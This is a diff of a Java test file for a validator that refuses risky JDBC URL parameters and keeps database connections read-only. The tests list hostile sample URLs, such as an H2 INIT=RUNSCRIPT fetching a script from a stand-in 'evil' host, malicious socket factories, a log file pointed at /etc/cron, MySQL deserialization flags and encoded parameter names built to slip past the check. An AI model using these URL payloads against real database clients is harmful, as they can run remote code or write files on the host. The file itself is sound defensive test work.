@@ -1,7 +1,6 @@
 package trade.database;
 
-import static org.assertj.core.api.Assertions.assertThatCode;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -14,73 +13,97 @@ class UrlParametersTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "jdbc:postgresql://host:5432,other/trade",
+                "jdbc:postgresql://host/trade?ssl=true&sslmode=verify-full&applicationname=a&currentSchema=b",
+                "jdbc:trino://host:8080/hive/trade?SSL=true&timezone=UTC",
                 "jdbc:duckdb:",
-                "jdbc:duckdb:data/trade.duckdb",
-                "jdbc:sqlite:trade.sqlite",
-                "jdbc:postgresql://host:5432/trade?sslmode=require&currentSchema=customs&user=an",
-                "jdbc:trino://host:8080/hive/trade?SSL=true",
-                "jdbc:duckdb:trade.duckdb;threads=4"
+                "jdbc:duckdb::memory:",
+                "jdbc:duckdb:/data/year=2024/100%/a&b.db;threads=2;",
+                "jdbc:sqlite:trade.db?busy_timeout=100",
+                "jdbc:clickhouse://host:8123/trade?ssl=true",
+                "jdbc:hive2://host:10000/trade;ssl=true;principal=hive/host@REALM",
+                "jdbc:h2:mem:trade",
+                "jdbc:oracle:thin:@//host:1521/trade",
             })
-    void what_is_known_to_be_harmless_is_taken(String url) {
-        assertThatCode(() -> UrlParameters.check(url, List.of())).doesNotThrowAnyException();
-    }
-
-    @ParameterizedTest
-    @CsvSource(
-            delimiter = '|',
-            value = {
-                "jdbc:postgresql://host/trade?socketFactory=evil.Factory     | socketfactory",
-                "jdbc:postgresql://host/trade?ssl=true&sslfactory=evil       | sslfactory",
-                "jdbc:postgresql://host/trade?ssl=true&loggerFile=/etc/cron  | loggerfile",
-                "jdbc:postgresql://host/trade?options=-c%20x=y               | options",
-                "jdbc:mysql://host/trade?allowLoadLocalInfile=true           | allowloadlocalinfile",
-                "jdbc:mysql://host/trade?autoDeserialize                     | autodeserialize",
-                "jdbc:mysql://(host=x,autoDeserialize=true)/trade            | host",
-                "jdbc:h2:mem:trade;INIT=RUNSCRIPT FROM 'http://evil'         | init",
-                "jdbc:h2:mem:trade; init =RUNSCRIPT FROM 'http://evil'       | init",
-                "jdbc:duckdb:;allow_unsigned_extensions=true                 | allow_unsigned_extensions",
-                "jdbc:duckdb:;session_init_sql_file=evil.sql                 | session_init_sql_file",
-                "jdbc:hive2://host/trade;ssl=true#x=y                        | x",
-                "jdbc:unknown://host/trade?ssl=true                          | ssl"
-            })
-    void what_may_load_run_or_write_something_has_to_be_allowed_by_name(String url, String name) {
-        assertThatThrownBy(() -> UrlParameters.check(url, List.of()))
-                .hasMessage("the URL sets '" + name + "', which may load, run or write something;"
-                        + " --allow-url-parameter " + name + " allows it");
-    }
-
-    @Test
-    void what_is_allowed_is_allowed_whatever_its_case_and_nothing_else_is() {
-        String url = "jdbc:h2:mem:trade;INIT=RUNSCRIPT FROM 'x.sql';TRACE_LEVEL_FILE=3";
-
-        assertThatCode(() -> UrlParameters.check(url, List.of("Init", "trace_level_file")))
-                .doesNotThrowAnyException();
-        assertThatThrownBy(() -> UrlParameters.check(url, List.of("init"))).hasMessageContaining("'trace_level_file'");
-    }
-
-    @Test
-    void a_name_that_is_encoded_is_read_as_a_driver_decodes_it() {
-        for (String url : List.of(
-                "jdbc:postgresql://host/x?socket%46actory=evil",
-                "jdbc:postgresql://host/x?socket%2546actory=evil", "jdbc:postgresql://host/x%3FsocketFactory%3Devil")) {
-            assertThatThrownBy(() -> UrlParameters.check(url, List.of("socket%46actory")))
-                    .hasMessageContaining("'socketfactory'");
-        }
-        assertThatThrownBy(() -> UrlParameters.check("jdbc:postgresql://host/x?100%=5", List.of()))
-                .hasMessageContaining("'100%'");
+    void harmless_ones_pass(String url) {
+        assertThat(UrlParameters.of(url).refused(List.of())).isEmpty();
     }
 
     @ParameterizedTest
     @CsvSource({
-        "jdbc:duckdb:x.duckdb;duckdb.read_only=false, duckdb.read_only",
-        "jdbc:duckdb:x.duckdb;access_mode=READ_WRITE, access_mode",
-        "jdbc:sqlite:x.sqlite?open_mode=6, open_mode",
-        "jdbc:sqlite:file:x.sqlite?mode=rwc, mode",
-        "jdbc:postgresql://host/trade?readOnlyMode=ignore, readonlymode",
-        "jdbc:postgresql://host/trade?readOnly=false, readonly"
+        "jdbc:postgresql://host/trade?socketFactory=a.B, socketFactory",
+        "jdbc:postgresql://host/trade?sslmode=require&sslfactory=a.B, sslfactory",
+        "jdbc:postgresql://host/trade?loggerFile=log, loggerFile",
+        "jdbc:postgresql://host/trade?options=-c%20default_transaction_read_only=off, options",
+        "jdbc:postgresql://host/trade?readOnlyMode=ignore, readOnlyMode",
+        "jdbc:postgresql://host/trade?authenticationPluginClassName=a.B, authenticationPluginClassName",
+        "jdbc:postgresql://host/trade?%73ocketFactory=a.B, socketFactory",
+        "jdbc:postgresql://host/trade?%2573ocketFactory=a.B, socketFactory",
+        "jdbc:postgresql://host/trade? socketFactory =a.B, socketFactory",
+        "jdbc:postgresql://host/trade?socketFactory, socketFactory",
+        "jdbc:trino://host/hive?source=a%26SSLKeyStorePath=b, SSLKeyStorePath",
+        "jdbc:trino://host/hive?source=a#x=b, x",
+        "jdbc:trino://host/hive%3FdnsResolver=a.B, dnsResolver",
+        "JDBC:duckdb:trade.db;access_mode=READ_WRITE, access_mode",
+        "jdbc:duckdb:trade.db;threads=1;session_init_sql_file=a, session_init_sql_file",
+        "jdbc:duckdb:md:trade, md",
+        "jdbc:duckdb:%6dd:trade, md",
+        "jdbc:sqlite::resource:http://host/trade.db, resource",
+        "jdbc:sqlite:trade.db?OPEN_MODE=6, OPEN_MODE",
+        "jdbc:hive2://host/trade;jaasConfig=a, jaasConfig",
+        "jdbc:hive2://host/trade;ssl=true?a=b#initFile=c, a",
+        "jdbc:h2:mem:trade;INIT=RUNSCRIPT FROM 'a=b', INIT",
+        "jdbc:mysql://host/trade?autoDeserialize=true, autoDeserialize",
+        "'jdbc:mysql://(host=h,allowLoadLocalInfile=true)/trade', host",
+        "jdbc:mysql://address=(autoDeserialize=true)/trade, address",
+        "jdbc:db2://host:50000/trade:traceFile=log;, traceFile",
+        "jdbc:sqlserver://host;databaseName=trade, databaseName",
     })
-    void that_a_connection_only_reads_cannot_be_turned_off_be_it_allowed(String url, String name) {
-        assertThatThrownBy(() -> UrlParameters.check(url, List.of(name)))
-                .hasMessage("the URL cannot set '" + name + "', as connections only read");
+    void others_are_named(String url, String name) {
+        assertThat(UrlParameters.of(url).refused(List.of("another"))).contains(name);
+    }
+
+    @Test
+    void one_that_is_allowed_passes_however_it_is_written() {
+        UrlParameters parameters = UrlParameters.of("jdbc:duckdb:md:trade;Access_Mode=READ_ONLY;threads=1");
+
+        assertThat(parameters.refused(List.of("MD", "access_mode"))).isEmpty();
+        assertThat(parameters.refused(List.of("md"))).contains("Access_Mode");
+    }
+
+    @Test
+    void what_the_url_says_is_not_said_twice() {
+        Dialect duckdb = Dialect.of("jdbc:duckdb:");
+
+        assertThat(duckdb.propertiesOf(UrlParameters.of("jdbc:duckdb:trade.db")))
+                .containsEntry("duckdb.read_only", "true")
+                .containsEntry("autoload_known_extensions", "false");
+        assertThat(duckdb.propertiesOf(
+                        UrlParameters.of("jdbc:duckdb:;Autoload_Known_Extensions=true;a=lock_configuration=")))
+                .doesNotContainKeys("duckdb.read_only", "autoload_known_extensions")
+                .containsKey("lock_configuration");
+    }
+
+    @Test
+    void a_secret_is_found_in_a_url_that_is_no_proper_code() {
+        assertThat(Credentials.areIn("jdbc:duckdb:100%.db")).isFalse();
+        assertThat(Credentials.areIn("jdbc:postgresql://host/100%?%70assword=b"))
+                .isTrue();
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "jdbc:duckdb:trade.db;duckdb.read_only=false, duckdb.read_only",
+        "jdbc:duckdb:trade.db;Access_Mode=READ_WRITE, Access_Mode",
+        "jdbc:sqlite:trade.db?%6fpen_mode=6, open_mode",
+        "jdbc:sqlite:file:trade.db?mode=rwc, mode",
+        "jdbc:postgresql://host/trade?readOnly=false, readOnly",
+        "jdbc:postgresql://host/trade?readOnlyMode=ignore, readOnlyMode"
+    })
+    void none_says_whether_a_connection_only_reads(String url, String name) {
+        assertThat(UrlParameters.of(url).settled()).contains(name);
+        assertThat(UrlParameters.of("jdbc:postgresql://host/trade?sslmode=require")
+                        .settled())
+                .isEmpty();
     }
 }
